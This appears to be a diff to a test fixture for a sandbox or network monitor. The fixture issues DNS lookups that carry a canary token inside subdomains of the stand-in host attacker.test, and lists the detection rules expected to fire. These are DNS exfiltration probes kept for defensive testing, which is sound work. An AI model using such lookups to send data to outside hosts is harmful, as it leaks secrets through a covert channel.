@@ -25,7 +25,8 @@ ROWS = [
         attempt(socket.gethostbyname_ex, "two." + CANARY + ".attacker.test")
         def txt():
             answer = ctypes.create_string_buffer(512)
-            ctypes.CDLL("libresolv.so.2").__res_query(("three." + CANARY + ".attacker.test").encode(), 1, 16, answer, 512)
+            libc = ctypes.CDLL(None)
+            getattr(libc if hasattr(libc, "res_query") else ctypes.CDLL("libresolv.so.2"), "res_query" if hasattr(libc, "res_query") else "__res_query")(("three." + CANARY + ".attacker.test").encode(), 1, 16, answer, 512)
         attempt(txt)
         """), name("*.{canary}.attacker.test"), (resolve("net.resolve", "one.canary*"), resolve("net.resolve", "two.canary*"),
                                                   connect(port=53, rule="net.outside.probe", severity="info"))),
